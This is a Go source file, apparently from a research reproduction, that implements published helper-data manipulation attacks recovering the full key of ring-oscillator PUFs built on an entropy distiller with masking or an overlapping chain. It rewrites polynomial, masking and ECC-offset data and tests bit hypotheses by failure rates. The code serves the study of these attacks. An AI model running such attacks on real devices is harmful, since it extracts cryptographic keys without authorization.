package attack

import (
	"context"
	"fmt"
	"math"
	"slices"

	"repro/internal/bitvec"
	"repro/internal/distiller"
	"repro/internal/ecc"
	"repro/internal/helperdata"
	"repro/internal/pairing"
	"repro/internal/rng"
)

// dsScratch carries the reusable buffers of one masking or chain Run:
// hypothesis streams, padded/injected codewords, the crafted offset, a
// cached block code + ECC workspace, and pooled per-arm offset blobs and
// predicted keys (arms of one decision are alive simultaneously, so the
// pools are indexed by arm). As in gbScratch, images are always fresh —
// the adapters' caches key on image identity — while blobs may be pooled
// because an arm's image is never re-installed after its decision.
type dsScratch struct {
	stream    bitvec.Vector
	needBlk   []bool
	selected  []int
	predicted []bool
	polyBeta  []float64
	offBlob   [][]byte
	predKey   []bitvec.Vector
	sketch    ecc.Sketch
	// chain-only buffers.
	unknownIdx []int
	determined []bool
	arms       []Hypothesis
}

// armSlot grows the per-arm pools to cover arm index i.
func (sc *dsScratch) armSlot(i int) {
	for len(sc.offBlob) <= i {
		sc.offBlob = append(sc.offBlob, nil)
		sc.predKey = append(sc.predKey, bitvec.Vector{})
	}
}

func init() {
	Register(maskingAttack{})
	Register(chainAttack{})
}

// The §VI-D tuning: the injected pattern's steepness, the secondary
// gradient that pins every pair the pattern does not target, and the
// seed of the attack's own randomness (codeword draws).
const (
	distillerPatternMHz = 500
	distillerTiltMHz    = 80
	distillerSeed       = 0xd15711
)

// distillerDefaults fills the §VI-D option defaults.
func distillerDefaults(opts Options, t int) Options {
	if opts.InjectErrors <= 0 || opts.InjectErrors > t {
		opts.InjectErrors = t
	}
	return opts
}

// MaskingDetails is the masking attack's Report payload.
type MaskingDetails struct {
	// BaseBits[i] is the recovered residual-sign bit of base pair i
	// (true = pair.A's distilled residual exceeds pair.B's... i.e. the
	// response bit the pair would produce).
	BaseBits []bool
}

// maskingAttack is the paper's Fig. 6b attack against an entropy
// distiller composed with 1-out-of-k masking over a disjoint neighbor
// chain. Every base pair is isolated in turn: a quadratic valley
// centered between the pair's two oscillators ties their pattern values
// while a small orthogonal tilt pins every other selected pair; the
// attacker rewrites the masking helper to select pattern-determined
// pairs elsewhere, recomputes the ECC offset for both hypotheses about
// the target bit, and compares failure rates. Recovering all base-pair
// bits reveals the original key through the public masking selections.
type maskingAttack struct{}

func (maskingAttack) Name() string { return "masking" }
func (maskingAttack) Description() string {
	return "Fig. 6b distiller + 1-out-of-k masking full key recovery"
}

func (a maskingAttack) Run(ctx context.Context, t Target, opts Options) (Report, error) {
	spec := t.Spec()
	if spec.Construction != a.Name() {
		return Report{}, fmt.Errorf("attack: target construction %q, want masked chain", spec.Construction)
	}
	if spec.Rows <= 0 || spec.Cols <= 0 {
		return Report{}, fmt.Errorf("attack: masking needs array geometry in the spec, got %dx%d", spec.Rows, spec.Cols)
	}
	if _, ok := t.(KeyBinder); !ok {
		return Report{}, fmt.Errorf("attack: masking needs a reprogrammed-key target (KeyBinder)")
	}
	originalImage, err := t.ReadImage()
	if err != nil {
		return Report{}, err
	}
	origPoly, origMask, origOffset, err := DistillerFromImage(originalImage)
	if err != nil {
		return Report{}, err
	}
	if origMask == nil {
		return Report{}, fmt.Errorf("attack: helper image carries no masking section")
	}
	defer func() { _ = t.WriteImage(originalImage) }()

	opts = distillerDefaults(opts, spec.Code.T())
	src := rng.New(distillerSeed)
	budget := NewBudget(opts.QueryBudget)
	startQueries := t.Queries()
	tr := newTracer(a.Name(), t, opts)

	tr.phase("bits")
	base := pairing.ChainPairs(spec.Rows, spec.Cols, true)
	groups := len(origMask.Selected)
	usable := groups * origMask.K
	// The image is untrusted input: its masking shape must agree with
	// the spec's architecture-derived chain or indexing below would be
	// out of bounds.
	if origMask.K < 1 || usable > len(base) {
		return Report{}, fmt.Errorf("attack: masking helper covers %d base pairs (k=%d), chain has %d",
			usable, origMask.K, len(base))
	}
	bits := make([]bool, len(base))
	var sc dsScratch
	for target := 0; target < usable; target++ {
		bit, err := decideMaskedPairBit(ctx, t, spec, origPoly, origMask.K, base, opts, src, budget, &sc, target)
		if err != nil {
			return Report{}, fmt.Errorf("attack: base pair %d: %w", target, err)
		}
		bits[target] = bit
		tr.step("bits", target+1, usable)
	}

	// The original key: bits of the originally selected pairs, polished
	// offline against the original ECC offset (which binds the enrolled
	// key) to repair noise-marginal decisions.
	tr.phase("assemble")
	key := bitvec.New(groups)
	for g, sel := range origMask.Selected {
		key.Set(g, bits[g*origMask.K+sel])
	}
	key = polishWithOriginalOffset(&sc.sketch, key, origOffset, spec.Code)

	rep := tr.report(startQueries)
	rep.Key = key
	rep.Details = MaskingDetails{BaseBits: bits}
	return rep, nil
}

// decideMaskedPairBit isolates one base pair and recovers its residual
// sign bit. The pattern superimposes onto the ORIGINAL enrollment
// polynomial (not whatever a previous arm left in NVM).
func decideMaskedPairBit(ctx context.Context, t Target, spec Spec, origPoly distiller.Poly2D, k int, base []pairing.Pair, opts Options, src *rng.Source, budget *Budget, sc *dsScratch, target int) (bool, error) {
	pos := func(ro int) (int, int) { return ro % spec.Cols, ro / spec.Cols }
	tp := base[target]
	pattern := valleyForPair(pos, tp)

	pval := func(ro int) float64 {
		x, y := pos(ro)
		return pattern.Eval(float64(x), float64(y))
	}

	// Rewrite the masking selections: the target's group selects the
	// target; every other group selects its pair with the largest
	// pattern separation (a fully determined bit).
	groups := len(base) / k
	targetGroup := target / k
	selected := resizeInts(&sc.selected, groups)
	predicted := resizeBools(&sc.predicted, groups)
	for g := 0; g < groups; g++ {
		if g == targetGroup {
			selected[g] = target % k
			continue
		}
		bestIdx, bestSep := -1, 0.0
		for i := 0; i < k; i++ {
			pr := base[g*k+i]
			if sep := math.Abs(pval(pr.A) - pval(pr.B)); sep > bestSep {
				bestIdx, bestSep = i, sep
			}
		}
		if bestIdx < 0 || bestSep < 1 {
			return false, fmt.Errorf("attack: group %d has no pattern-determined pair", g)
		}
		selected[g] = bestIdx
		pr := base[g*k+bestIdx]
		// Response bit = [residual'(A) > residual'(B)] and residual' =
		// residual - P, so the pair with the smaller pattern value wins.
		predicted[g] = pval(pr.A) < pval(pr.B)
	}

	// The superposition reuses the scratch coefficient buffer; its blob
	// and the masking blob are shared by both arm images.
	poly := origPoly.AddInto(pattern, sc.polyBeta)
	sc.polyBeta = poly.Beta
	mask := pairing.MaskingHelper{K: k, Selected: selected}
	polyBlob := poly.Marshal()
	maskBlob := mask.Marshal()

	makeArm := func(hyp int, hypBit bool) (Hypothesis, error) {
		stream := scratchVec(&sc.stream, groups)
		for g := 0; g < groups; g++ {
			if g == targetGroup {
				stream.Set(g, hypBit)
			} else {
				stream.Set(g, predicted[g])
			}
		}
		offBlob, predKey, err := sc.offsetWithInjection(hyp, stream, targetGroup, spec.Code, opts, src, nil)
		if err != nil {
			return nil, err
		}
		im := helperdata.NewImage()
		im.SetOwned(helperdata.SectionPolynomial, polyBlob)
		im.SetOwned(helperdata.SectionMasking, maskBlob)
		im.SetOwned(helperdata.SectionOffset, offBlob)
		return bindingHypothesis(im, predKey), nil
	}
	arm0, err := makeArm(0, false)
	if err != nil {
		return false, err
	}
	arm1, err := makeArm(1, true)
	if err != nil {
		return false, err
	}
	best, _, err := opts.Dist.BestHypotheses(ctx, t, []Hypothesis{arm0, arm1}, budget)
	if err != nil {
		return false, err
	}
	if best < 0 {
		return false, ErrNoArms
	}
	return best == 1, nil
}

// bindingHypothesis writes an image and binds the predicted key — the
// reprogrammed-key arm shared by the distiller-facing attacks.
func bindingHypothesis(im *helperdata.Image, predKey bitvec.Vector) Hypothesis {
	return func(t Target) error {
		if err := t.WriteImage(im); err != nil {
			return err
		}
		if kb, ok := t.(KeyBinder); ok {
			kb.BindKey(predKey)
			return nil
		}
		return fmt.Errorf("attack: target %T cannot bind keys", t)
	}
}

// ChainDetails is the chain attack's Report payload.
type ChainDetails struct {
	// MaxHypotheses is the largest simultaneous hypothesis set used
	// (2^b for b bits undetermined by one pattern — the paper
	// illustrates b = 4).
	MaxHypotheses int
}

// chainAttack is the paper's Fig. 6c attack against an entropy distiller
// composed with an overlapping neighbor chain. A quadratic valley
// centered between two adjacent columns leaves exactly the chain pairs
// straddling that boundary undetermined (one per row — four on the
// paper's 4x10 array), so the attacker enumerates all 2^b hypotheses
// about those bits at once; sliding the valley across every column and
// row boundary recovers the whole key.
type chainAttack struct{}

func (chainAttack) Name() string { return "chain" }
func (chainAttack) Description() string {
	return "Fig. 6c distiller + overlapping chain full key recovery"
}

func (a chainAttack) Run(ctx context.Context, t Target, opts Options) (Report, error) {
	spec := t.Spec()
	if spec.Construction != a.Name() {
		return Report{}, fmt.Errorf("attack: target construction %q, want overlapping chain", spec.Construction)
	}
	if spec.Rows <= 0 || spec.Cols <= 0 {
		return Report{}, fmt.Errorf("attack: chain needs array geometry in the spec, got %dx%d", spec.Rows, spec.Cols)
	}
	if _, ok := t.(KeyBinder); !ok {
		return Report{}, fmt.Errorf("attack: chain needs a reprogrammed-key target (KeyBinder)")
	}
	originalImage, err := t.ReadImage()
	if err != nil {
		return Report{}, err
	}
	origPoly, _, origOffset, err := DistillerFromImage(originalImage)
	if err != nil {
		return Report{}, err
	}
	defer func() { _ = t.WriteImage(originalImage) }()

	opts = distillerDefaults(opts, spec.Code.T())
	src := rng.New(distillerSeed)
	budget := NewBudget(opts.QueryBudget)
	startQueries := t.Queries()
	tr := newTracer(a.Name(), t, opts)

	pos := func(ro int) (int, int) { return ro % spec.Cols, ro / spec.Cols }
	base := pairing.ChainPairs(spec.Rows, spec.Cols, false)
	known := make(map[int]bool, len(base)) // chain index -> bit
	maxHyp := 0

	// Column boundaries, then row boundaries.
	type boundary struct {
		vertical bool // vertical line between columns (valley in x)
		at       float64
	}
	var bounds []boundary
	for c := 0; c+1 < spec.Cols; c++ {
		bounds = append(bounds, boundary{vertical: true, at: float64(c) + 0.5})
	}
	for r := 0; r+1 < spec.Rows; r++ {
		bounds = append(bounds, boundary{vertical: false, at: float64(r) + 0.5})
	}

	tr.phase("boundaries")
	var sc dsScratch
	for bi, bd := range bounds {
		var pattern distiller.Poly2D
		if bd.vertical {
			pattern = distiller.QuadraticValleyX(bd.at, distillerPatternMHz).Add(distiller.Plane(0, 0, distillerTiltMHz))
		} else {
			pattern = distiller.QuadraticValleyY(bd.at, distillerPatternMHz).Add(distiller.Plane(0, distillerTiltMHz, 0))
		}
		pval := func(ro int) float64 {
			x, y := pos(ro)
			return pattern.Eval(float64(x), float64(y))
		}
		// Classify chain pairs: determined (predicted) vs undetermined.
		unknownIdx := sc.unknownIdx[:0]
		predicted := resizeBools(&sc.predicted, len(base))
		determined := resizeBools(&sc.determined, len(base))
		for i := range determined {
			determined[i] = false
		}
		for i, pr := range base {
			sep := pval(pr.A) - pval(pr.B)
			if math.Abs(sep) > 1 {
				determined[i] = true
				predicted[i] = sep < 0 // smaller pattern value wins
			} else if _, ok := known[i]; !ok {
				unknownIdx = append(unknownIdx, i)
			}
		}
		sc.unknownIdx = unknownIdx
		if len(unknownIdx) == 0 {
			continue
		}
		if len(unknownIdx) > 12 {
			return Report{}, fmt.Errorf("attack: %d undetermined bits under one pattern", len(unknownIdx))
		}
		if h := 1 << len(unknownIdx); h > maxHyp {
			maxHyp = h
		}

		// The superposition reuses the scratch coefficient buffer; its
		// blob is shared by every arm image of this boundary.
		poly := origPoly.AddInto(pattern, sc.polyBeta)
		sc.polyBeta = poly.Beta
		polyBlob := poly.Marshal()
		arms := sc.arms[:0]
		for hyp := 0; hyp < 1<<len(unknownIdx); hyp++ {
			stream := scratchVec(&sc.stream, len(base))
			for i := range base {
				switch {
				case determined[i]:
					stream.Set(i, predicted[i])
				case slices.Contains(unknownIdx, i):
					p := slices.Index(unknownIdx, i)
					stream.Set(i, hyp>>uint(p)&1 == 1)
				default:
					// Already recovered on an earlier boundary but tied
					// under this pattern: use the known bit.
					stream.Set(i, known[i])
				}
			}
			offBlob, predKey, err := sc.offsetWithInjection(hyp, stream, unknownIdx[0], spec.Code, opts, src, unknownIdx)
			if err != nil {
				return Report{}, err
			}
			im := helperdata.NewImage()
			im.SetOwned(helperdata.SectionPolynomial, polyBlob)
			im.SetOwned(helperdata.SectionOffset, offBlob)
			arms = append(arms, bindingHypothesis(im, predKey))
		}
		sc.arms = arms
		best, _, err := opts.Dist.BestHypotheses(ctx, t, arms, budget)
		if err != nil {
			return Report{}, err
		}
		if best < 0 {
			return Report{}, ErrNoArms
		}
		for p, idx := range unknownIdx {
			known[idx] = best>>uint(p)&1 == 1
		}
		tr.step("boundaries", bi+1, len(bounds))
	}

	tr.phase("assemble")
	key := bitvec.New(len(base))
	for i := range base {
		if b, ok := known[i]; ok {
			key.Set(i, b)
		} else {
			return Report{}, fmt.Errorf("attack: chain bit %d never isolated", i)
		}
	}
	key = polishWithOriginalOffset(&sc.sketch, key, origOffset, spec.Code)

	rep := tr.report(startQueries)
	rep.Key = key
	rep.Details = ChainDetails{MaxHypotheses: maxHyp}
	return rep, nil
}

// offsetWithInjection builds the code-offset helper binding the predicted
// stream with the common error offset folded into every ECC block that
// contains a hypothesis bit (or block 0 when hypBits is nil, meaning the
// single hypothesis bit sits at position targetPos). It returns the
// marshaled offset blob (pooled per arm, ready for SetOwned) and the key
// the attacker predicts the device will regenerate (pooled per arm;
// targets copy at BindKey). The legacy version iterated the needed
// blocks in map order — per-block injections are disjoint, so the
// ascending order here is observably identical.
func (sc *dsScratch) offsetWithInjection(arm int, stream bitvec.Vector, targetPos int, code ecc.Code, opts Options, src *rng.Source, hypBits []int) ([]byte, bitvec.Vector, error) {
	n := code.N()
	sk := &sc.sketch
	sk.Size(code, stream.Len())
	blocks := sk.Blocks()
	injected := sk.Stream()
	injected.PutAt(0, stream)

	// Blocks needing the offset.
	needBlk := resizeBools(&sc.needBlk, blocks)
	for i := range needBlk {
		needBlk[i] = false
	}
	needBlk[targetPos/n] = true
	for _, hb := range hypBits {
		needBlk[hb/n] = true
	}
	avoid := func(pos int) bool { return pos == targetPos || slices.Contains(hypBits, pos) }
	for blk := 0; blk < blocks; blk++ {
		if !needBlk[blk] {
			continue
		}
		count := 0
		for pos := blk * n; pos < (blk+1)*n && pos < stream.Len() && count < opts.InjectErrors; pos++ {
			if avoid(pos) {
				continue
			}
			injected.Flip(pos)
			count++
		}
		if count < opts.InjectErrors {
			return nil, bitvec.Vector{}, fmt.Errorf("attack: block %d lacks injectable bits", blk)
		}
	}
	offsetW := sk.Enroll(src)
	sc.armSlot(arm)
	blob, err := offsetW.AppendBinary(sc.offBlob[arm][:0])
	if err != nil {
		return nil, bitvec.Vector{}, err
	}
	sc.offBlob[arm] = blob
	// The device's recovered response is the stream the offset binds —
	// the INJECTED one — so that is the key the attacker predicts.
	if sc.predKey[arm].Len() != stream.Len() {
		sc.predKey[arm] = bitvec.New(stream.Len())
	}
	injected.SliceInto(0, stream.Len(), sc.predKey[arm])
	return blob, sc.predKey[arm], nil
}

// valleyForPair builds the Fig. 6b pattern for one target pair: a
// quadratic valley centered between the pair's oscillators along their
// separation axis plus an orthogonal tilt.
func valleyForPair(pos func(int) (int, int), tp pairing.Pair) distiller.Poly2D {
	xa, ya := pos(tp.A)
	xb, yb := pos(tp.B)
	if ya == yb {
		// Horizontal pair: valley in x centered between them, tilt in y.
		return distiller.QuadraticValleyX((float64(xa)+float64(xb))/2, distillerPatternMHz).
			Add(distiller.Plane(0, 0, distillerTiltMHz))
	}
	if xa == xb {
		return distiller.QuadraticValleyY((float64(ya)+float64(yb))/2, distillerPatternMHz).
			Add(distiller.Plane(0, distillerTiltMHz, 0))
	}
	// Diagonal pairs do not occur on neighbor chains; fall back to the
	// perpendicular plane (levels tie along the perpendicular axis).
	return distiller.PerpendicularPlane(xa, ya, xb, yb, distillerPatternMHz)
}
